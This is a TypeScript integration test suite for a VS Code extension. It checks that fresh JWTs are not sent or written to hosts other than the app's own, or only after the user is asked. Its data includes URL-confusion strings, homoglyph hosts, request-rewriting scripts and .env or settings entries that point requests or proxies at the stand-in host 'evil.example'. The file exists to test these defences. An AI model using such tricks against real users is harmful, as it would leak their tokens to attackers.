import { strict as assert } from "node:assert";
import { mkdir, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import * as vscode from "vscode";
import type { JwtApp } from "../../../src/domain/apps/jwtApp";
import { httpYac, restClient, type StandIn } from "../../host/standIns";
import { activated, forgetAll, hs256App, isSignedWith, newSecret, saved, signedToken, until } from "../../host/support";
import { assertDeclinesFirst, asking } from "./neighbour";
import { shownText } from "../../host/inFront";

const OWN = "https://platform.kore.ai";
const now = (): number => Math.floor(Date.now() / 1000);

describe("A fresh token", () => {
  const secret = newSecret();
  let app: JwtApp;
  let folder: string;
  let sender: StandIn;
  let count = 0;

  before(async () => {
    await forgetAll();
    app = await saved(hs256App("Mine", { host: "platform.kore.ai" }), { clientSecret: secret });
    const root = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? assert.fail("no workspace");
    folder = join(root, "destinations");
  });
  beforeEach(async () => {
    await rm(folder, { recursive: true, force: true });
    await mkdir(folder, { recursive: true });
    await vscode.commands.executeCommand("jwtApps.forgetTokens");
    sender = restClient();
  });
  afterEach(async () => {
    sender.dispose();
    for (let left = vscode.window.tabGroups.all.flatMap(({ tabs }) => tabs).length; left > 0; left--)
      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
    await rm(folder, { recursive: true, force: true });
  });
  after(forgetAll);

  const expired = (): Promise<string> =>
    signedToken({ appId: app.clientId, sub: "jane", iat: now() - 600, exp: now() - 300 }, secret);

  async function opened(text: string): Promise<vscode.TextDocument> {
    // VS Code keeps a document for a while, whatever becomes of its file.
    const file = join(folder, `requests-${++count}.http`);
    await writeFile(file, text);
    const document = await vscode.workspace.openTextDocument(
      vscode.Uri.file(file).with({ scheme: vscode.workspace.workspaceFolders?.[0]?.uri.scheme ?? "file" }),
    );
    await vscode.window.showTextDocument(document);
    await until(() => vscode.window.activeTextEditor?.document === document, "the editor is active");
    return document;
  }

  /** Clicks the lens of that title, the last one where there are several. */
  async function click(document: vscode.TextDocument, title: string, answer?: string) {
    const lenses = (
      await vscode.commands.executeCommand<vscode.CodeLens[]>("vscode.executeCodeLensProvider", document.uri, 100)
    ).filter(({ command }) => command?.title === title);
    const { command } = lenses.at(-1) ?? assert.fail(`no lens “${title}”`);
    return asking(
      () => vscode.commands.executeCommand(command?.command ?? "", ...((command?.arguments as unknown[]) ?? [])),
      answer,
    );
  }

  const isFresh = async (document: vscode.TextDocument, line: number): Promise<boolean> => {
    const [token = ""] = /eyJ[\w.-]+/.exec(document.lineAt(line).text) ?? [];
    return (
      (await isSignedWith(token, secret)) &&
      Number(
        (JSON.parse(atob(token.split(".")[1]?.replaceAll("-", "+").replaceAll("_", "/") ?? "")) as { exp: number }).exp,
      ) > now()
    );
  };

  it("goes to the app's own host without a question, and by the request that was decided on, wherever the cursor is", async () => {
    const document = await opened(
      `### Elsewhere\nGET https://evil.example/x\n\n### Own\nGET ${OWN}/api/public/bots\nauth: ${await expired()}\n`.replace(
        "https://evil.example/x",
        `${OWN}/x`,
      ),
    );
    vscode.window.visibleTextEditors.forEach((editor) => (editor.selection = new vscode.Selection(1, 0, 1, 0)));
    assert.deepEqual((await click(document, "Refresh and send")).asked, []);
    assert.deepEqual(
      sender.called.map(({ url, line, args }) => [url?.href, line, args[0] === document]),
      [[`${OWN}/api/public/bots`, 4, true]],
    );
    assert.ok(await isFresh(document, 5));
  });

  it("goes to a host that a workspace's file chose only once a person has seen that, and then unasked", async () => {
    const { store } = await activated();
    await store.update(app, (current) => ({ ...current, hostFromFile: "platform.kore.ai" }));
    const document = await opened(`GET ${OWN}/api/public/bots\nauth: ${await expired()}\n`);
    const declined = await click(document, "Refresh and send");
    assert.deepEqual(
      declined.modals.map(({ message }) => message),
      ["Send a fresh token of “Mine” to “platform.kore.ai”?"],
    );
    assertDeclinesFirst(declined);
    assert.deepEqual([sender.called.length, await isFresh(document, 1)], [0, false]);
    await click(document, "Refresh and send", "Send");
    assert.deepEqual([sender.called.length, await isFresh(document, 1)], [1, true]);
    // In another file, too.
    const other = await opened(`GET ${OWN}/api/public/x\nauth: ${await expired()}\n`);
    assert.deepEqual((await click(other, "Refresh and send")).asked, []);
    assert.equal((await store.get(app.id))?.hostFromFile, undefined);
  });

  /** Texts with `TOKEN` in place of a token, the host that a client would call, and the host in the question. */
  const foreign: readonly (readonly [why: string, text: string, called: string | undefined, named: string])[] = [
    ["a brace", "GET https://platform.kore.ai{@evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
    [
      "a closing brace",
      "GET https://platform.kore.ai}@evil.example/x\nauth: TOKEN\n",
      "evil.example",
      "“evil.example”",
    ],
    ["a space", "GET https://platform.kore.ai @evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
    [
      "a no-break space",
      "GET https://platform.kore.ai\u00a0@evil.example/x\nauth: TOKEN\n",
      "evil.example",
      "“evil.example”",
    ],
    [
      "a line separator",
      "GET https://platform.kore.ai\u2028@evil.example/x\nauth: TOKEN\n",
      "evil.example",
      "“evil.example”",
    ],
    [
      "a variable with one",
      "@host = https://platform.kore.ai{@evil.example\n\n###\nGET {{host}}/x\nauth: TOKEN\n",
      "evil.example",
      "“evil.example”",
    ],
    [
      "three slashes",
      "GET https:///evil.example\nHost: platform.kore.ai\nauth: TOKEN\n",
      "evil.example",
      "“evil.example”",
    ],
    ["no user", "GET https://{@evil.example\nHost: platform.kore.ai\nauth: TOKEN\n", "evil.example", "“evil.example”"],
    [
      "another letter",
      "GET https://plаtform.kore.ai/x\nauth: TOKEN\n",
      "xn--pltform-3fg.kore.ai",
      "“xn--pltform-3fg.kore.ai”",
    ],
    [
      "a definition in another body",
      "@host = https://platform.kore.ai\n\n###\nGET {{host}}/x\nauth: TOKEN\n\n###\nPOST https://platform.kore.ai/y\n\n@host = https://evil.example\n",
      "evil.example",
      "“evil.example”",
    ],
    [
      "a script",
      'GET https://platform.kore.ai/x\nauth: TOKEN\n\n###\n{{\nexports.host = "https://evil.example";\n}}\n',
      "platform.kore.ai",
      "“platform.kore.ai”",
    ],
    [
      "a script for each request",
      'GET https://platform.kore.ai/x\nauth: TOKEN\n\n###\n{{@request\nrequest.url = "https://evil.example";\n}}\n',
      "platform.kore.ai",
      "“platform.kore.ai”",
    ],
    [
      "another host of the platform",
      "GET https://de-platform.kore.ai/x\nauth: TOKEN\n",
      "de-platform.kore.ai",
      "“de-platform.kore.ai”",
    ],
    ["no encryption", "GET http://platform.kore.ai/x\nauth: TOKEN\n", "platform.kore.ai", "“platform.kore.ai”"],
    ["nothing that tells", "GET https://{{unknown}}/x\nauth: TOKEN\n", undefined, "an unknown host"],
  ];

  for (const [why, text, called, named] of foreign) {
    it(`is neither sent nor written unasked where there is ${why}`, async () => {
      const written = text.replace("TOKEN", await expired());
      const document = await opened(written);
      // VS Code takes unusual line ends out of what it opens, in its own time.
      const content = written.replace("\u2028", "");
      for (const [title, decline, verb] of [
        ["Refresh and send", "Don't Send", "Send"],
        ["Refresh", "Don't Write", "Write"],
      ] as const) {
        const { asked, modals } = await click(document, title);
        assert.deepEqual(asked, ["modal"]);
        assertDeclinesFirst({ modals });
        assert.deepEqual(modals[0]?.buttons, [decline, verb]);
        assert.ok(modals[0]?.message.includes(named), modals[0]?.message);
        assert.equal(document.getText().replace("\u2028", ""), content);
        // Whoever declines is asked again.
        assert.deepEqual((await click(document, title, decline)).asked, ["modal"]);
        assert.equal(document.getText().replace("\u2028", ""), content);
      }
      assert.equal(sender.called.length, 0);
      // The stand-in reads the address as REST Client does: that is where it would have gone.
      await click(document, "Refresh and send", "Send");
      assert.equal(sender.called.length, 1);
      if (called !== undefined) assert.equal(sender.called[0]?.url?.host, called);
    });
  }

  it("is remembered for this content, these hosts and what lies beside the file, and for nothing else", async () => {
    const document = await opened(`GET https://other.example/x\nauth: ${await expired()}\n\n{}\n`);
    const asked = async (answer?: string): Promise<number> =>
      (await click(document, "Refresh and send", answer)).asked.length;
    assert.equal(await asked("Send"), 1);
    assert.equal(await asked(), 0);
    assert.equal(sender.called.length, 2);
    const edit = new vscode.WorkspaceEdit();
    edit.replace(document.uri, new vscode.Range(0, 0, 0, 100), "GET https://another.example/x");
    await vscode.workspace.applyEdit(edit);
    assert.equal(await asked(), 1);
    const back = new vscode.WorkspaceEdit();
    back.replace(document.uri, new vscode.Range(0, 0, 0, 100), "GET https://other.example/x");
    await vscode.workspace.applyEdit(back);
    assert.equal(await asked(), 0);
    await writeFile(join(folder, ".env"), "host=https://evil.example\n");
    assert.equal(await asked("Send"), 1);
    assert.equal(await asked(), 0);
    await writeFile(join(folder, ".env"), "host=https://worse.example\n");
    assert.equal(await asked(), 1);
    await vscode.commands.executeCommand("jwtApps.forgetTokens");
    await rm(join(folder, ".env"));
    assert.equal(await asked(), 1);
  });

  for (const [name, content] of [
    ["httpyac.config.js", "module.exports = { configureHooks: (api) => {} };"],
    [".httpyac.json", "{}"],
    [".env", "host=https://evil.example"],
    [".env.local", "host=https://evil.example"],
    ["staging.env", "host=https://evil.example"],
    ["http-client.private.env.json", "{}"],
    ["env/.env", "host=https://evil.example"],
    ["../httpyac.config.cjs", "module.exports = {};"],
    ["package.json", '{"httpyac": {"environments": {}}}'],
    ["package.json", '{"httpy\\u0061c": {"proxy": "http://evil.example"}}'],
    ["package.json", '{"devDependencies": {"httpyac-plugin-x": "1"}}'],
    ["package.json", '{"dependencies": {"@someone/httpyac-plugin-x": "1"}}'],
    ["package.json", '{"name": "x",'],
  ] as const) {
    it(`is asked about where “${name}” lies beside the file, by its name: ${content}`, async () => {
      const other = join(folder, name);
      await mkdir(join(other, ".."), { recursive: true });
      await writeFile(other, content);
      try {
        const document = await opened(`GET ${OWN}/x\nauth: ${await expired()}\n`);
        const { asked, modals } = await click(document, "Refresh");
        assert.deepEqual(asked, ["modal"]);
        assert.ok(
          modals[0]?.detail.includes(`“${name.startsWith("env/") ? "env" : name.replace("../", "")}”`),
          modals[0]?.detail,
        );
      } finally {
        await rm(other, { force: true });
      }
    });
  }

  for (const [section, key, value] of [
    ["httpyac", "requestGotOptions", { prefixUrl: "https://evil.example" }],
    ["httpyac", "environmentVariables", { $shared: { request_proxy: "http://evil.example" } }],
    ["rest-client", "environmentVariables", { $shared: { host: "https://evil.example" } }],
    ["rest-client", "certificates", { "platform.kore.ai": { pfx: "x" } }],
  ] as const) {
    it(`is asked about where the workspace sets “${section}.${key}”, by its name`, async () => {
      const settings = vscode.Uri.joinPath(
        vscode.workspace.workspaceFolders?.[0]?.uri ?? assert.fail("no workspace"),
        ".vscode/settings.json",
      );
      const document = await opened(`GET ${OWN}/x\nauth: ${await expired()}\n`);
      await vscode.workspace.fs.writeFile(
        settings,
        new TextEncoder().encode(JSON.stringify({ [`${section}.${key}`]: value })),
      );
      try {
        await until(
          () => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue !== undefined,
          "the setting counts",
        );
        const { asked, modals } = await click(document, "Refresh");
        assert.deepEqual(asked, ["modal"]);
        assert.ok(modals[0]?.detail.includes(`“${section}.${key}”`), modals[0]?.detail);
      } finally {
        await vscode.workspace.fs.delete(settings);
        await until(
          () => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue === undefined,
          "the setting is gone",
        );
      }
    });
  }

  it("is asked about once where it stands in a variable and is sent, with all hosts that may get it", async () => {
    const document = await opened(
      `@token = ${await expired()}\n\n###\nGET https://evil.example/x\n\n###\nGET ${OWN}/x\nauth: {{token}}\n`,
    );
    const { asked, modals } = await click(document, "Refresh and send");
    assert.deepEqual(asked, ["modal"]);
    assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
  });

  it("is asked about for all requests where one takes from what another sent", async () => {
    const document = await opened(
      `###\n# @name a\nGET ${OWN}/x\nauth: ${await expired()}\n\n###\nGET https://evil.example/x\nauth: {{a.request.headers.auth}}\n`,
    );
    const { modals } = await click(document, "Refresh");
    assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
  });

  it("in Markdown is asked about, since clients send what stands there", async () => {
    const editor = await shownText(`~~~http\nGET https://evil.example/x\nauth: ${await expired()}\n~~~\n`, "markdown");
    editor.selection = new vscode.Selection(2, 10, 2, 10);
    const { asked, modals } = await asking(() => vscode.commands.executeCommand("jwtApps.refreshToken"));
    assert.deepEqual(asked, ["modal"]);
    assert.match(modals[0]?.detail ?? "", /Markdown/);
  });

  it("in a new request file is asked about where something lies beside it", async () => {
    const root = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? assert.fail("no workspace");
    const make = (answer?: string) =>
      asking(
        () =>
          vscode.commands.executeCommand<string | undefined>("jwtApps.newRequestFile", {
            app: app.id,
            endpoint: "get-bots",
            use: "line",
          }),
        answer,
      );
    await asking(() => vscode.commands.executeCommand("jwtApps.mintToken", { app: app.id }), "Allow for This Session");
    const plain = await make();
    assert.deepEqual([plain.asked, typeof plain.result], [[], "string"]);
    await writeFile(join(root, "httpyac.config.js"), "module.exports = {};");
    try {
      const { asked, result } = await make();
      assert.deepEqual([asked, result], [["modal"], undefined]);
    } finally {
      await rm(join(root, "httpyac.config.js"));
    }
  });

  it("is not asked about where other files lie there", async () => {
    for (const [name, content] of [
      ["package.json", '{"name": "x"}'],
      ["environment.md", ""],
      ["env.ts", ""],
      ["other.http", ""],
    ] as const)
      await writeFile(join(folder, name), content);
    const document = await opened(`GET ${OWN}/x\nauth: ${await expired()}\n`);
    assert.deepEqual((await click(document, "Refresh")).asked, []);
  });

  it("in a variable is asked about for every request of the file that may take it", async () => {
    const document = await opened(
      `@token = ${await expired()}\n\n###\nGET ${OWN}/x\nauth: {{token}}\n\n###\nGET https://evil.example/x\nauth: {{token}}\n`,
    );
    const { asked, modals } = await click(document, "Refresh");
    assert.deepEqual(asked, ["modal"]);
    assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
  });

  it("in a request that is inserted is asked about where the file changes where it goes", async () => {
    const insert = (answer?: string) =>
      asking(
        () =>
          vscode.commands.executeCommand("jwtApps.insertRequest", { app: app.id, endpoint: "get-bots", use: "line" }),
        answer,
      );
    await asking(() => vscode.commands.executeCommand("jwtApps.mintToken", { app: app.id }), "Allow for This Session");
    const plain = await opened(`@host = ${OWN}\n\n###\nGET {{host}}/x\n`);
    assert.deepEqual((await insert()).asked, []);
    assert.ok(plain.getText().includes("eyJ"));
    const scripted = await opened(
      `@host = ${OWN}\n\n###\nGET {{host}}/x\n\n###\n{{+\nexports.host = "https://evil.example";\n}}\n`,
    );
    const before = scripted.getText();
    assert.deepEqual((await insert()).asked, ["modal"]);
    assert.equal(scripted.getText(), before);
    await insert("Write");
    assert.ok(scripted.getText().includes("eyJ"));
  });

  it("is not sent where the file changed while the question stood", async () => {
    const document = await opened(`GET https://other.example/x\nauth: ${await expired()}\n`);
    const { showWarningMessage } = vscode.window;
    Object.assign(vscode.window, {
      showWarningMessage: async () => {
        const edit = new vscode.WorkspaceEdit();
        edit.replace(document.uri, new vscode.Range(0, 0, 0, 100), "GET https://evil.example/x");
        await vscode.workspace.applyEdit(edit);
        return "Send";
      },
    });
    try {
      const lens = (
        await vscode.commands.executeCommand<vscode.CodeLens[]>("vscode.executeCodeLensProvider", document.uri, 100)
      ).find(({ command }) => command?.title === "Refresh and send");
      await vscode.commands.executeCommand(
        lens?.command?.command ?? "",
        ...((lens?.command?.arguments as unknown[]) ?? []),
      );
    } finally {
      Object.assign(vscode.window, { showWarningMessage });
    }
    assert.equal(sender.called.length, 0);
    assert.ok(!(await isFresh(document, 1)));
  });

  it("is sent by httpYac with the request that was decided on", async () => {
    sender.dispose();
    sender = httpYac();
    const document = await opened(`### One\nGET ${OWN}/one\n\n### Two\nGET ${OWN}/two\nauth: ${await expired()}\n`);
    assert.deepEqual((await click(document, "Refresh and send")).asked, []);
    assert.deepEqual(
      sender.called.map(({ url }) => url?.href),
      [`${OWN}/two`],
    );
  });

  it("stays out of the environment for a file that goes elsewhere", async () => {
    // The window of these tests is a remote one, where none is put there at all; what decides is tried with the gate.
    const { DestinationGate } = await import("../../../src/editor/requests/destination/destinationGate");
    const { newGateMemory } = await import("../../../src/editor/requests/destination/gateMemory");
    const gate = new DestinationGate(newGateMemory((await activated()).store));
    const document = await opened(`GET https://evil.example/x\nauth: {{$processEnv JWT_APPS_MINE}}\n`);
    const behind = await asking(() => gate.passOnce({ document, app, use: "environment" }, false));
    assert.deepEqual([behind.asked, behind.result], [[], false]);
    const declined = await asking(() => gate.passOnce({ document, app, use: "environment" }, true));
    assert.deepEqual([declined.asked, declined.result], [["modal"], false]);
    // Once is enough.
    assert.deepEqual((await asking(() => gate.passOnce({ document, app, use: "environment" }, true))).asked, []);
    const own = await opened(`GET ${OWN}/x\nauth: {{$processEnv JWT_APPS_MINE}}\n`);
    assert.equal(await gate.passOnce({ document: own, app, use: "environment" }, false), true);
    assert.ok((await activated()).store);
  });
});
